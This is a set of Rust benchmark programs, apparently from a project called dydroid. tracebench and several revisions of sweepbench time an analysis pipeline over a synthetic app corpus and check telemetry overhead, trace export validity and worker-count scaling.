                ..PipelineConfig::default()
            },
            &corpus,
        );
        off_report = Some(report);
        ms
    });
    let off_report = off_report.expect("disabled rounds");
    let off_med = Stats::from_samples(&off_ms).median;
    eprintln!("tracebench: disabled sweep median {off_med:.1} ms");

    eprintln!(
        "tracebench: telemetry-enabled sweep ({} warmup + {} sample rounds) ...",
        common.warmup, common.samples
    );
    let mut on_run: Option<(Pipeline, MeasurementReport)> = None;
    let on_ms = sample_rounds(common.samples, common.warmup, || {
        let (pipeline, report, ms) = timed_sweep(PipelineConfig::default(), &corpus);
        on_run = Some((pipeline, report));
        ms
    });
    let (on_pipeline, on_report) = on_run.expect("enabled rounds");
    let on_med = Stats::from_samples(&on_ms).median;
    eprintln!("tracebench: enabled sweep median {on_med:.1} ms");
    eprint!("{}", on_report.render_perf());
    record.counters_from_stats(on_report.stats());

    // Telemetry must never change a measured byte.
    let off_json = serde_json::to_string(&off_report).expect("serialise disabled report");
    let on_json = serde_json::to_string(&on_report).expect("serialise enabled report");
    if off_json != on_json {
        eprintln!("tracebench: FAIL — telemetry on/off reports differ");
        std::process::exit(EXIT_FINDING);
    }
    eprintln!(
        "tracebench: reports identical ({} bytes of JSON)",
        off_json.len()
    );

    // Chrome-trace export: write it (to --trace-out or a temp path) and
    // parse it back as a structural validity check.
    let spans = on_pipeline.telemetry().spans();
    let trace_doc = dydroid::obs::chrome_trace(&spans);
    let trace_text = serde_json::to_string(&trace_doc).expect("serialise trace");
    let parsed: serde_json::Value = serde_json::from_str(&trace_text).expect("trace parses back");
    let n_events = parsed
        .get("traceEvents")
        .and_then(|e| e.as_array())
        .map(|a| a.len())
        .unwrap_or_else(|| {
            eprintln!("tracebench: FAIL — trace document has no traceEvents array");
            std::process::exit(EXIT_FINDING);
        });
    if n_events != spans.len() {
        eprintln!(
            "tracebench: FAIL — {} spans produced {} trace events",
            spans.len(),
            n_events
        );
        std::process::exit(EXIT_FINDING);
    }
    eprintln!("tracebench: chrome trace valid ({n_events} events)");
    if let Some(path) = &trace_out {
        std::fs::write(path, &trace_text).expect("write trace");
        eprintln!("tracebench: wrote {path}");
    }

    // Micro-benchmark both span fast paths, one measurement per round.
    const ITERS: u64 = 1_000_000;
    let disabled_ns = sample_rounds(common.samples, common.warmup, || {
        span_round_trip_ns(&Telemetry::new(false), ITERS)
    });
    let enabled_ns = sample_rounds(common.samples, common.warmup, || {
        span_round_trip_ns(&Telemetry::new(true), ITERS)
    });
    let disabled_ns_med = Stats::from_samples(&disabled_ns).median;
    let enabled_ns_med = Stats::from_samples(&enabled_ns).median;
    eprintln!(
        "tracebench: span round trip {disabled_ns_med:.1} ns disabled / {enabled_ns_med:.1} ns enabled"
    );

    // The disabled-path overhead estimate: every span the enabled run
    // recorded would have been a no-op guard in the disabled run.
    let off_ns = off_med.max(1.0) * 1e6;
    let disabled_overhead_pct = 100.0 * (spans.len() as f64 * disabled_ns_med) / off_ns;
    let enabled_overhead_pct = if off_med == 0.0 {
        0.0
    } else {
        100.0 * (on_med - off_med) / off_med
    };
    eprintln!(
        "tracebench: estimated disabled overhead {disabled_overhead_pct:.3}% \
         (budget {max_overhead_pct:.1}%), enabled overhead {enabled_overhead_pct:.1}%"
    );

    record.push_metric("disabled_wall_ms", "ms", Direction::Lower, false, off_ms);
    record.push_metric("enabled_wall_ms", "ms", Direction::Lower, false, on_ms);
    record.push_metric(
        "span_ns_disabled",
        "ns",
        Direction::Lower,
        false,
        disabled_ns,
    );
    record.push_metric("span_ns_enabled", "ns", Direction::Lower, false, enabled_ns);
    record.push_metric(
        "disabled_overhead_pct",
        "percent",
        Direction::Lower,
        false,
        vec![disabled_overhead_pct],
    );
    // Deterministic identity: the span count for a fixed corpus must
    // never move, on any machine.
    record.push_metric(
        "spans_recorded",
        "count",
        Direction::Steady,
        true,
        vec![spans.len() as f64],
    );
    record.payload = serde_json::json!({
        "apps": apps,
        "workers": PipelineConfig::default().effective_workers(),
        "disabled_wall_ms": off_med,
        "enabled_wall_ms": on_med,
        "spans_recorded": spans.len(),
        "trace_events": n_events,
        "span_ns_disabled": disabled_ns_med,
        "span_ns_enabled": enabled_ns_med,
        "disabled_overhead_pct": disabled_overhead_pct,
        "enabled_overhead_pct": enabled_overhead_pct,
        "max_overhead_pct": max_overhead_pct,
        "reports_identical": true,
    });

    record
        .write_pretty(&common.out)
        .expect("write bench output");
    eprintln!("tracebench: wrote {}", common.out);
    common.append_history("tracebench", &record);

    if disabled_overhead_pct > max_overhead_pct {
        eprintln!(
            "tracebench: FAIL — disabled-telemetry overhead {disabled_overhead_pct:.3}% \
             exceeds {max_overhead_pct:.1}%"
        );
        std::process::exit(EXIT_FINDING);
    }
}
