//! Telemetry overhead benchmark: runs the sweepbench-shape corpus once
//! with telemetry **disabled** and once **enabled**, verifies the two
//! reports are byte-identical JSON (the observability layer must never
//! change a measured byte), validates the Chrome-trace export by parsing
//! it back, micro-benchmarks the no-op span fast path, and emits a
//! `BENCH_trace.json` perf record.
//!
//! The gate: the *disabled* fast path must cost < `--max-overhead`
//! percent (default 3%) of sweep wall time. A disabled span guard does
//! no allocation and no locking, so its estimated share — spans the
//! enabled run recorded × the measured ns per disabled span, over the
//! disabled-run wall time — stays far below the budget.
//!
//! ```text
//! tracebench [--scale F] [--seed N] [--out PATH] [--trace-out PATH]
//!            [--max-overhead PCT]
//! ```

use std::io::Write as _;
use std::time::Instant;

use dydroid::obs::Telemetry;
use dydroid::{MeasurementReport, Pipeline, PipelineConfig};
use dydroid_workload::{generate, CorpusSpec, SyntheticApp};

struct Args {
    scale: f64,
    seed: u64,
    out: String,
    trace_out: Option<String>,
    max_overhead_pct: f64,
}

fn parse_args() -> Args {
    let mut args = Args {
        scale: 0.01,
        seed: CorpusSpec::default().seed,
        out: "BENCH_trace.json".to_string(),
        trace_out: None,
        max_overhead_pct: 3.0,
    };
    let mut it = std::env::args().skip(1);
    while let Some(arg) = it.next() {
        match arg.as_str() {
            "--scale" => {
                args.scale = it
                    .next()
                    .and_then(|v| v.parse().ok())
                    .unwrap_or_else(|| usage("--scale needs a float"));
            }
            "--seed" => {
                args.seed = it
                    .next()
                    .and_then(|v| v.parse().ok())
                    .unwrap_or_else(|| usage("--seed needs an integer"));
            }
            "--out" => args.out = it.next().unwrap_or_else(|| usage("--out needs a path")),
            "--trace-out" => {
                args.trace_out = it.next().or_else(|| usage("--trace-out needs a path"));
            }
            "--max-overhead" => {
                args.max_overhead_pct = it
                    .next()
                    .and_then(|v| v.parse().ok())
                    .unwrap_or_else(|| usage("--max-overhead needs a float percentage"));
            }
            "--help" | "-h" => {
                println!("usage: {USAGE}");
                std::process::exit(0);
            }
            other => usage(&format!("unknown argument {other:?}")),
        }
    }
    args
}

const USAGE: &str =
    "tracebench [--scale F] [--seed N] [--out PATH] [--trace-out PATH] [--max-overhead PCT]";

fn usage(msg: &str) -> ! {
    eprintln!("error: {msg}");
    eprintln!("usage: {USAGE}");
    std::process::exit(2);
}

/// One timed sweep; returns the pipeline (for its telemetry), the report
/// and the wall-clock ms.
fn timed_sweep(
    config: PipelineConfig,
    corpus: &[SyntheticApp],
) -> (Pipeline, MeasurementReport, u64) {
    let pipeline = Pipeline::new(config);
    let t0 = Instant::now();
    let report = pipeline.run(corpus);
    (pipeline, report, t0.elapsed().as_millis() as u64)
}

/// Nanoseconds per span open/field/close round trip on `telemetry`.
fn span_round_trip_ns(telemetry: &Telemetry, iters: u64) -> f64 {
    let t0 = Instant::now();
    for i in 0..iters {
        let mut span = telemetry.span("bench");
        span.field("i", i);
    }
    t0.elapsed().as_nanos() as f64 / iters as f64
}

fn main() {
    let args = parse_args();
    eprintln!(
        "tracebench: generating corpus (scale {}, seed {:#x}) ...",
        args.scale, args.seed
    );
    let corpus = generate(&CorpusSpec {
        scale: args.scale,
        seed: args.seed,
    });
    let apps = corpus.len();
    eprintln!("tracebench: {apps} apps");

    eprintln!("tracebench: telemetry-disabled sweep ...");
    let (_, off_report, off_ms) = timed_sweep(
        PipelineConfig {
            telemetry: false,
            ..PipelineConfig::default()
        },
        &corpus,
    );
    eprintln!("tracebench: disabled sweep in {off_ms} ms");

    eprintln!("tracebench: telemetry-enabled sweep ...");
    let (on_pipeline, on_report, on_ms) = timed_sweep(PipelineConfig::default(), &corpus);
    eprintln!("tracebench: enabled sweep in {on_ms} ms");
    eprint!("{}", on_report.render_perf());

    // Telemetry must never change a measured byte.
    let off_json = serde_json::to_string(&off_report).expect("serialise disabled report");
    let on_json = serde_json::to_string(&on_report).expect("serialise enabled report");
    if off_json != on_json {
        eprintln!("tracebench: FAIL — telemetry on/off reports differ");
        std::process::exit(1);
    }
    eprintln!(
        "tracebench: reports identical ({} bytes of JSON)",
        off_json.len()
    );

    // Chrome-trace export: write it (to --trace-out or a temp path) and
    // parse it back as a structural validity check.
    let spans = on_pipeline.telemetry().spans();
    let trace_doc = dydroid::obs::chrome_trace(&spans);
    let trace_text = serde_json::to_string(&trace_doc).expect("serialise trace");
    let parsed: serde_json::Value = serde_json::from_str(&trace_text).expect("trace parses back");
    let n_events = parsed
        .get("traceEvents")
        .and_then(|e| e.as_array())
        .map(|a| a.len())
        .unwrap_or_else(|| {
            eprintln!("tracebench: FAIL — trace document has no traceEvents array");
            std::process::exit(1);
        });
    if n_events != spans.len() {
        eprintln!(
            "tracebench: FAIL — {} spans produced {} trace events",
            spans.len(),
            n_events
        );
        std::process::exit(1);
    }
    eprintln!("tracebench: chrome trace valid ({n_events} events)");
    if let Some(path) = &args.trace_out {
        std::fs::write(path, &trace_text).expect("write trace");
        eprintln!("tracebench: wrote {path}");
    }

    // Micro-benchmark both span fast paths.
    const ITERS: u64 = 1_000_000;
    let disabled_ns = span_round_trip_ns(&Telemetry::new(false), ITERS);
    let enabled_ns = span_round_trip_ns(&Telemetry::new(true), ITERS);
    eprintln!(
        "tracebench: span round trip {disabled_ns:.1} ns disabled / {enabled_ns:.1} ns enabled"
    );

    // The disabled-path overhead estimate: every span the enabled run
    // recorded would have been a no-op guard in the disabled run.
    let off_ns = (off_ms.max(1) as f64) * 1e6;
    let disabled_overhead_pct = 100.0 * (spans.len() as f64 * disabled_ns) / off_ns;
    let enabled_overhead_pct = if off_ms == 0 {
        0.0
    } else {
        100.0 * (on_ms as f64 - off_ms as f64) / off_ms as f64
    };
    eprintln!(
        "tracebench: estimated disabled overhead {disabled_overhead_pct:.3}% \
         (budget {:.1}%), enabled overhead {enabled_overhead_pct:.1}%",
        args.max_overhead_pct
    );

    let doc = serde_json::json!({
        "bench": "trace",
        "scale": args.scale,
        "seed": args.seed,
        "apps": apps,
        "workers": PipelineConfig::default().effective_workers(),
        "disabled_wall_ms": off_ms,
        "enabled_wall_ms": on_ms,
        "spans_recorded": spans.len(),
        "trace_events": n_events,
        "span_ns_disabled": disabled_ns,
        "span_ns_enabled": enabled_ns,
        "disabled_overhead_pct": disabled_overhead_pct,
        "enabled_overhead_pct": enabled_overhead_pct,
        "max_overhead_pct": args.max_overhead_pct,
        "reports_identical": true,
    });
    let mut f = std::fs::File::create(&args.out).expect("create bench output");
    f.write_all(
        serde_json::to_string_pretty(&doc)
            .expect("serialise")
            .as_bytes(),
    )
    .expect("write bench output");
    eprintln!("tracebench: wrote {}", args.out);

    if disabled_overhead_pct > args.max_overhead_pct {
        eprintln!(
            "tracebench: FAIL — disabled-telemetry overhead {disabled_overhead_pct:.3}% \
             exceeds {:.1}%",
            args.max_overhead_pct
        );
        std::process::exit(1);
    }
}
