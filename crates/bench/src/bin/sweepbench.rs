//! rebar-style sweep benchmark: runs a fixed-seed corpus sweep twice —
//! once as the **uncached serial baseline** (analysis cache off, Table
//! VIII re-runs serial with per-config re-decompilation) and once
//! **optimized** (content-addressed cache on, parallel decompile-once
//! re-runs) — verifies both produce identical measurement JSON, and
//! emits a `BENCH_sweep.json` perf record so future changes have a
//! regression trajectory.
//!
//! ```text
//! sweepbench [--scale F] [--seed N] [--out PATH] [--skip-baseline]
//! ```

use std::io::Write as _;
use std::time::Instant;

use dydroid::{MeasurementReport, Pipeline, PipelineConfig};
use dydroid_workload::{generate, CorpusSpec, SyntheticApp};

struct Args {
    scale: f64,
    seed: u64,
    out: String,
    skip_baseline: bool,
}

fn parse_args() -> Args {
    let mut args = Args {
        scale: 0.01,
        seed: CorpusSpec::default().seed,
        out: "BENCH_sweep.json".to_string(),
        skip_baseline: false,
    };
    let mut it = std::env::args().skip(1);
    while let Some(arg) = it.next() {
        match arg.as_str() {
            "--scale" => {
                args.scale = it
                    .next()
                    .and_then(|v| v.parse().ok())
                    .unwrap_or_else(|| usage("--scale needs a float"));
            }
            "--seed" => {
                args.seed = it
                    .next()
                    .and_then(|v| v.parse().ok())
                    .unwrap_or_else(|| usage("--seed needs an integer"));
            }
            "--out" => args.out = it.next().unwrap_or_else(|| usage("--out needs a path")),
            "--skip-baseline" => args.skip_baseline = true,
            "--help" | "-h" => {
                println!("usage: {USAGE}");
                std::process::exit(0);
            }
            other => usage(&format!("unknown argument {other:?}")),
        }
    }
    args
}

const USAGE: &str = "sweepbench [--scale F] [--seed N] [--out PATH] [--skip-baseline]";

fn usage(msg: &str) -> ! {
    eprintln!("error: {msg}");
    eprintln!("usage: {USAGE}");
    std::process::exit(2);
}

/// One timed sweep; returns the report and total wall-clock ms.
fn timed_sweep(config: PipelineConfig, corpus: &[SyntheticApp]) -> (MeasurementReport, u64) {
    let pipeline = Pipeline::new(config);
    let t0 = Instant::now();
    let report = pipeline.run(corpus);
    (report, t0.elapsed().as_millis() as u64)
}

/// The perf facts of one variant as a JSON object.
fn variant_json(report: &MeasurementReport, wall_ms: u64, apps: usize) -> serde_json::Value {
    let stats = report.stats();
    let cache = &stats.cache;
    let apps_per_sec = if wall_ms == 0 {
        0.0
    } else {
        apps as f64 * 1000.0 / wall_ms as f64
    };
    let phases = serde_json::json!({
        "sweep_ms": stats.sweep_ms,
        "env_ms": stats.env_ms,
    });
    let cache_json = serde_json::json!({
        "hits": cache.hits,
        "misses": cache.misses,
        "unique_binaries": cache.entries,
        "hit_rate": cache.hit_rate(),
        "sig_builds": cache.sig_builds,
        "taint_runs": cache.taint_runs,
    });
    serde_json::json!({
        "wall_ms": wall_ms,
        "apps_per_sec": apps_per_sec,
        "phases": phases,
        "cache": cache_json,
    })
}

fn main() {
    let args = parse_args();
    eprintln!(
        "sweepbench: generating corpus (scale {}, seed {:#x}) ...",
        args.scale, args.seed
    );
    let corpus = generate(&CorpusSpec {
        scale: args.scale,
        seed: args.seed,
    });
    let apps = corpus.len();
    eprintln!("sweepbench: {apps} apps");

    // Telemetry off in both variants: this benchmark is the PR-over-PR
    // perf trajectory, so it measures the disabled-telemetry fast path
    // (tracebench owns the enabled-vs-disabled comparison).
    let cached_config = PipelineConfig {
        telemetry: false,
        ..PipelineConfig::default()
    };
    let baseline_config = PipelineConfig {
        analysis_cache: false,
        serial_env_reruns: true,
        telemetry: false,
        ..PipelineConfig::default()
    };

    eprintln!("sweepbench: cached + parallel-rerun sweep ...");
    let (cached_report, cached_ms) = timed_sweep(cached_config, &corpus);
    eprint!("{}", cached_report.render_perf());

    let mut doc = serde_json::json!({
        "bench": "sweep",
        "scale": args.scale,
        "seed": args.seed,
        "apps": apps,
        "workers": PipelineConfig::default().effective_workers(),
        "cached": variant_json(&cached_report, cached_ms, apps),
    });

    if !args.skip_baseline {
        eprintln!("sweepbench: uncached serial baseline ...");
        let (baseline_report, baseline_ms) = timed_sweep(baseline_config, &corpus);
        eprint!("{}", baseline_report.render_perf());

        // The optimization must not change a single measured byte.
        let a = serde_json::to_string(&cached_report).expect("serialise cached");
        let b = serde_json::to_string(&baseline_report).expect("serialise baseline");
        if a != b {
            eprintln!("sweepbench: FAIL — cached and baseline reports differ");
            std::process::exit(1);
        }
        eprintln!("sweepbench: reports identical ({} bytes of JSON)", a.len());

        let speedup = if cached_ms == 0 {
            0.0
        } else {
            baseline_ms as f64 / cached_ms as f64
        };
        eprintln!("sweepbench: baseline {baseline_ms} ms -> cached {cached_ms} ms ({speedup:.2}x)");
        if let serde_json::Value::Object(map) = &mut doc {
            map.push((
                "baseline".to_string(),
                variant_json(&baseline_report, baseline_ms, apps),
            ));
            map.push(("speedup".to_string(), serde_json::json!(speedup)));
        }
    }

    let mut f = std::fs::File::create(&args.out).expect("create bench output");
    f.write_all(
        serde_json::to_string_pretty(&doc)
            .expect("serialise")
            .as_bytes(),
    )
    .expect("write bench output");
    eprintln!("sweepbench: wrote {}", args.out);
}
