//! rebar-style sweep benchmark: runs a fixed-seed corpus sweep twice —
//! once as the **uncached serial baseline** (analysis cache off, Table
//! VIII re-runs serial with per-config re-decompilation) and once
//! **optimized** (content-addressed cache on, parallel decompile-once
//! re-runs) — verifies both produce identical measurement JSON, then
//! sweeps the worker count 1→N through the sharded multi-writer path
//! and emits the apps/sec-per-core scaling curve alongside the cached/
//! baseline perf record in `BENCH_sweep.json`.
//!
//! Scaling is judged on the **virtual makespan** — the longest summed
//! deterministic per-app virtual cost any one worker was charged (see
//! `dydroid::WorkerStats`) — not wall-clock: the curve then measures
//! scheduler load balance and is reproducible on any machine, including
//! single-core CI runners where wall-clock cannot speed up at all.
//! Wall-clock per worker count is still recorded, unjudged.
//!
//! ```text
//! sweepbench [--scale F] [--seed N] [--out PATH] [--skip-baseline]
//!            [--max-workers N] [--min-scaling F]
//! ```

use std::io::Write as _;
use std::time::Instant;

use dydroid::scheduler::virtual_makespan_us;
use dydroid::{Journal, MeasurementReport, Pipeline, PipelineConfig};
use dydroid_workload::{generate, CorpusSpec, SyntheticApp};

struct Args {
    scale: f64,
    seed: u64,
    out: String,
    skip_baseline: bool,
    max_workers: usize,
    min_scaling: f64,
}

fn parse_args() -> Args {
    let mut args = Args {
        scale: 0.01,
        seed: CorpusSpec::default().seed,
        out: "BENCH_sweep.json".to_string(),
        skip_baseline: false,
        max_workers: 4,
        min_scaling: 0.0,
    };
    let mut it = std::env::args().skip(1);
    while let Some(arg) = it.next() {
        match arg.as_str() {
            "--scale" => {
                args.scale = it
                    .next()
                    .and_then(|v| v.parse().ok())
                    .unwrap_or_else(|| usage("--scale needs a float"));
            }
            "--seed" => {
                args.seed = it
                    .next()
                    .and_then(|v| v.parse().ok())
                    .unwrap_or_else(|| usage("--seed needs an integer"));
            }
            "--out" => args.out = it.next().unwrap_or_else(|| usage("--out needs a path")),
            "--skip-baseline" => args.skip_baseline = true,
            "--max-workers" => {
                args.max_workers = it
                    .next()
                    .and_then(|v| v.parse().ok())
                    .filter(|&n: &usize| n >= 1)
                    .unwrap_or_else(|| usage("--max-workers needs an integer >= 1"));
            }
            "--min-scaling" => {
                args.min_scaling = it
                    .next()
                    .and_then(|v| v.parse().ok())
                    .unwrap_or_else(|| usage("--min-scaling needs a float"));
            }
            "--help" | "-h" => {
                println!("usage: {USAGE}");
                std::process::exit(0);
            }
            other => usage(&format!("unknown argument {other:?}")),
        }
    }
    args
}

const USAGE: &str = "sweepbench [--scale F] [--seed N] [--out PATH] [--skip-baseline] \
[--max-workers N] [--min-scaling F]";

fn usage(msg: &str) -> ! {
    eprintln!("error: {msg}");
    eprintln!("usage: {USAGE}");
    std::process::exit(2);
}

/// One timed sweep; returns the report and total wall-clock ms.
fn timed_sweep(config: PipelineConfig, corpus: &[SyntheticApp]) -> (MeasurementReport, u64) {
    let pipeline = Pipeline::new(config);
    let t0 = Instant::now();
    let report = pipeline.run(corpus);
    (report, t0.elapsed().as_millis() as u64)
}

/// One scaling point: a journaled sweep at a fixed worker count through
/// the sharded multi-writer path. Returns the report, the wall-clock
/// ms, and the finalized journal bytes (the cross-count byte-identity
/// evidence).
fn scaling_point(
    corpus: &[SyntheticApp],
    workers: usize,
    dir: &std::path::Path,
) -> (MeasurementReport, u64, Vec<u8>) {
    let config = PipelineConfig {
        workers,
        telemetry: false,
        environment_reruns: false,
        ..PipelineConfig::default()
    };
    let pipeline = Pipeline::new(config);
    let path = dir.join(format!("scaling-{workers}.jsonl"));
    let journal = Journal::new(&path);
    journal.reset().expect("reset scaling journal");
    let t0 = Instant::now();
    let report = pipeline
        .run_resumable(corpus, &journal)
        .expect("scaling sweep");
    let wall_ms = t0.elapsed().as_millis() as u64;
    let bytes = std::fs::read(&path).expect("read finalized scaling journal");
    (report, wall_ms, bytes)
}

/// The perf facts of one variant as a JSON object.
fn variant_json(report: &MeasurementReport, wall_ms: u64, apps: usize) -> serde_json::Value {
    let stats = report.stats();
    let cache = &stats.cache;
    let apps_per_sec = if wall_ms == 0 {
        0.0
    } else {
        apps as f64 * 1000.0 / wall_ms as f64
    };
    let phases = serde_json::json!({
        "sweep_ms": stats.sweep_ms,
        "env_ms": stats.env_ms,
    });
    let cache_json = serde_json::json!({
        "hits": cache.hits,
        "misses": cache.misses,
        "unique_binaries": cache.entries,
        "hit_rate": cache.hit_rate(),
        "sig_builds": cache.sig_builds,
        "taint_runs": cache.taint_runs,
    });
    serde_json::json!({
        "wall_ms": wall_ms,
        "apps_per_sec": apps_per_sec,
        "phases": phases,
        "cache": cache_json,
    })
}

fn main() {
    let args = parse_args();
    eprintln!(
        "sweepbench: generating corpus (scale {}, seed {:#x}) ...",
        args.scale, args.seed
    );
    let corpus = generate(&CorpusSpec {
        scale: args.scale,
        seed: args.seed,
    });
    let apps = corpus.len();
    eprintln!("sweepbench: {apps} apps");

    // Telemetry off in both variants: this benchmark is the PR-over-PR
    // perf trajectory, so it measures the disabled-telemetry fast path
    // (tracebench owns the enabled-vs-disabled comparison).
    let cached_config = PipelineConfig {
        telemetry: false,
        ..PipelineConfig::default()
    };
    let baseline_config = PipelineConfig {
        analysis_cache: false,
        serial_env_reruns: true,
        telemetry: false,
        ..PipelineConfig::default()
    };

    eprintln!("sweepbench: cached + parallel-rerun sweep ...");
    let (cached_report, cached_ms) = timed_sweep(cached_config, &corpus);
    eprint!("{}", cached_report.render_perf());

    let mut doc = serde_json::json!({
        "bench": "sweep",
        "scale": args.scale,
        "seed": args.seed,
        "apps": apps,
        "workers": PipelineConfig::default().effective_workers(),
        "cached": variant_json(&cached_report, cached_ms, apps),
    });

    if !args.skip_baseline {
        eprintln!("sweepbench: uncached serial baseline ...");
        let (baseline_report, baseline_ms) = timed_sweep(baseline_config, &corpus);
        eprint!("{}", baseline_report.render_perf());

        // The optimization must not change a single measured byte.
        let a = serde_json::to_string(&cached_report).expect("serialise cached");
        let b = serde_json::to_string(&baseline_report).expect("serialise baseline");
        if a != b {
            eprintln!("sweepbench: FAIL — cached and baseline reports differ");
            std::process::exit(1);
        }
        eprintln!("sweepbench: reports identical ({} bytes of JSON)", a.len());

        let speedup = if cached_ms == 0 {
            0.0
        } else {
            baseline_ms as f64 / cached_ms as f64
        };
        eprintln!("sweepbench: baseline {baseline_ms} ms -> cached {cached_ms} ms ({speedup:.2}x)");
        if let serde_json::Value::Object(map) = &mut doc {
            map.push((
                "baseline".to_string(),
                variant_json(&baseline_report, baseline_ms, apps),
            ));
            map.push(("speedup".to_string(), serde_json::json!(speedup)));
        }
    }

    // Worker-count scaling sweep 1→N through the sharded multi-writer
    // journaled path. Each count runs the same corpus; the finalized
    // journal and the report JSON must be byte-identical across counts.
    let scaling_dir =
        std::env::temp_dir().join(format!("sweepbench-scaling-{}", std::process::id()));
    std::fs::create_dir_all(&scaling_dir).expect("create scaling dir");
    let mut points = Vec::new();
    let mut makespan_1 = 0u64;
    let mut reference: Option<(Vec<u8>, String)> = None;
    for workers in 1..=args.max_workers {
        eprintln!("sweepbench: scaling sweep at {workers} worker(s) ...");
        let (report, wall_ms, journal_bytes) = scaling_point(&corpus, workers, &scaling_dir);
        let stats = report.stats();
        let makespan_us = virtual_makespan_us(&stats.worker_stats);
        if workers == 1 {
            makespan_1 = makespan_us;
        }
        // Scaling factor: how much shorter the critical path (longest
        // per-worker virtual cost) got versus one worker.
        let scaling = if makespan_us == 0 {
            0.0
        } else {
            makespan_1 as f64 / makespan_us as f64
        };
        let report_json = serde_json::to_string(&report).expect("serialise scaling report");
        match &reference {
            None => reference = Some((journal_bytes, report_json)),
            Some((ref_journal, ref_report)) => {
                if *ref_journal != journal_bytes {
                    eprintln!(
                        "sweepbench: FAIL — finalized journal at {workers} workers differs from 1 worker"
                    );
                    std::process::exit(1);
                }
                if *ref_report != report_json {
                    eprintln!(
                        "sweepbench: FAIL — report JSON at {workers} workers differs from 1 worker"
                    );
                    std::process::exit(1);
                }
            }
        }
        let steals: u64 = stats.worker_stats.iter().map(|w| w.steals).sum();
        let virtual_total: u64 = stats.worker_stats.iter().map(|w| w.virtual_us).sum();
        let apps_per_virtual_sec_per_core = if makespan_us == 0 {
            0.0
        } else {
            apps as f64 * 1_000_000.0 / (makespan_us as f64 * workers as f64)
        };
        eprintln!(
            "sweepbench:   wall {wall_ms} ms, virtual makespan {makespan_us} µs, scaling {scaling:.2}x, {steals} steals"
        );
        points.push(serde_json::json!({
            "workers": workers,
            "stream_shards": stats.stream_shards,
            "wall_ms": wall_ms,
            "virtual_makespan_us": makespan_us,
            "virtual_total_us": virtual_total,
            "scaling": scaling,
            "apps_per_virtual_sec_per_core": apps_per_virtual_sec_per_core,
            "steals": steals,
            "shard_contention": stats.shard_contention,
        }));
    }
    let _ = std::fs::remove_dir_all(&scaling_dir);
    let final_scaling = points
        .last()
        .and_then(|p| p["scaling"].as_f64())
        .unwrap_or(0.0);
    eprintln!(
        "sweepbench: scaling 1→{}: {final_scaling:.2}x on virtual makespan (streams byte-identical across counts)",
        args.max_workers
    );
    if args.min_scaling > 0.0 && final_scaling < args.min_scaling {
        eprintln!(
            "sweepbench: FAIL — scaling {final_scaling:.2}x at {} workers below required {:.2}x",
            args.max_workers, args.min_scaling
        );
        std::process::exit(1);
    }
    if let serde_json::Value::Object(map) = &mut doc {
        map.push((
            "scaling".to_string(),
            serde_json::json!({
                "judged_on": "virtual_makespan_us",
                "max_workers": args.max_workers,
                "scaling_at_max": final_scaling,
                "points": points,
            }),
        ));
    }

    let mut f = std::fs::File::create(&args.out).expect("create bench output");
    f.write_all(
        serde_json::to_string_pretty(&doc)
            .expect("serialise")
            .as_bytes(),
    )
    .expect("write bench output");
    eprintln!("sweepbench: wrote {}", args.out);
}
