//! rebar-style sweep benchmark: runs a fixed-seed corpus sweep through
//! two variants — the **uncached serial baseline** (analysis cache off,
//! Table VIII re-runs serial with per-config re-decompilation) and the
//! **optimized** path (content-addressed cache on, parallel
//! decompile-once re-runs) — verifies both produce identical measurement
//! JSON, then sweeps the worker count 1→N through the sharded
//! multi-writer path and emits the apps/sec-per-core scaling curve.
//!
//! Each variant is sampled over several rounds (rebar warmup/sample
//! discipline) and the cached-vs-baseline speedup is judged with the
//! shared noise-aware comparator: a wall-clock difference inside the
//! run-to-run noise band reads "within noise", not "0.99x".
//!
//! Scaling is judged on the **virtual makespan** — the longest summed
//! deterministic per-app virtual cost any one worker was charged (see
//! `dydroid::WorkerStats`) — not wall-clock: the curve then measures
//! scheduler load balance and is reproducible on any machine, including
//! single-core CI runners where wall-clock cannot speed up at all.
//! Wall-clock per worker count is still recorded, unjudged.
//!
//! The run emits one unified measurement record (`BENCH_sweep.json`),
//! appends it to `BENCH_history.jsonl`, and exits 1 on any failed
//! identity check or `--min-scaling` gate (the shared bench exit-code
//! convention).

use std::time::Instant;

use dydroid::scheduler::virtual_makespan_us;
use dydroid::{Journal, MeasurementReport, Pipeline, PipelineConfig};
use dydroid_bench::measure::sample_rounds;
use dydroid_bench::{
    significant, ArgParser, CommonArgs, CompareConfig, Direction, Measurement, EXIT_FINDING,
};
use dydroid_workload::{generate, SyntheticApp};

const USAGE: &str = "sweepbench [--scale F] [--seed N] [--out PATH] [--samples N] [--warmup N] \
[--history PATH | --no-history] [--skip-baseline] [--max-workers N] [--min-scaling F]";

/// One timed sweep; returns the report and total wall-clock ms.
fn timed_sweep(config: PipelineConfig, corpus: &[SyntheticApp]) -> (MeasurementReport, f64) {
    let pipeline = Pipeline::new(config);
    let t0 = Instant::now();
    let report = pipeline.run(corpus);
    (report, t0.elapsed().as_secs_f64() * 1e3)
}

/// One scaling point: a journaled sweep at a fixed worker count through
/// the sharded multi-writer path. Returns the report, the wall-clock
/// ms, and the finalized journal bytes (the cross-count byte-identity
/// evidence).
fn scaling_point(
    corpus: &[SyntheticApp],
    workers: usize,
    dir: &std::path::Path,
) -> (MeasurementReport, u64, Vec<u8>) {
    let config = PipelineConfig {
        workers,
        telemetry: false,
        environment_reruns: false,
        ..PipelineConfig::default()
    };
    let pipeline = Pipeline::new(config);
    let path = dir.join(format!("scaling-{workers}.jsonl"));
    let journal = Journal::new(&path);
    journal.reset().expect("reset scaling journal");
    let t0 = Instant::now();
    let report = pipeline
        .run_resumable(corpus, &journal)
        .expect("scaling sweep");
    let wall_ms = t0.elapsed().as_millis() as u64;
    let bytes = std::fs::read(&path).expect("read finalized scaling journal");
    (report, wall_ms, bytes)
}

/// The perf facts of one variant as a JSON object (the legacy payload
/// shape, median wall-clock over the sampled rounds).
fn variant_json(report: &MeasurementReport, wall_ms: f64, apps: usize) -> serde_json::Value {
    let stats = report.stats();
    let cache = &stats.cache;
    let apps_per_sec = if wall_ms == 0.0 {
        0.0
    } else {
        apps as f64 * 1000.0 / wall_ms
    };
    let phases = serde_json::json!({
        "sweep_ms": stats.sweep_ms,
        "env_ms": stats.env_ms,
    });
    let cache_json = serde_json::json!({
        "hits": cache.hits,
        "misses": cache.misses,
        "unique_binaries": cache.entries,
        "hit_rate": cache.hit_rate(),
        "sig_builds": cache.sig_builds,
        "taint_runs": cache.taint_runs,
    });
    serde_json::json!({
        "wall_ms": wall_ms,
        "apps_per_sec": apps_per_sec,
        "phases": phases,
        "cache": cache_json,
    })
}

fn main() {
    let mut parser = ArgParser::new(USAGE);
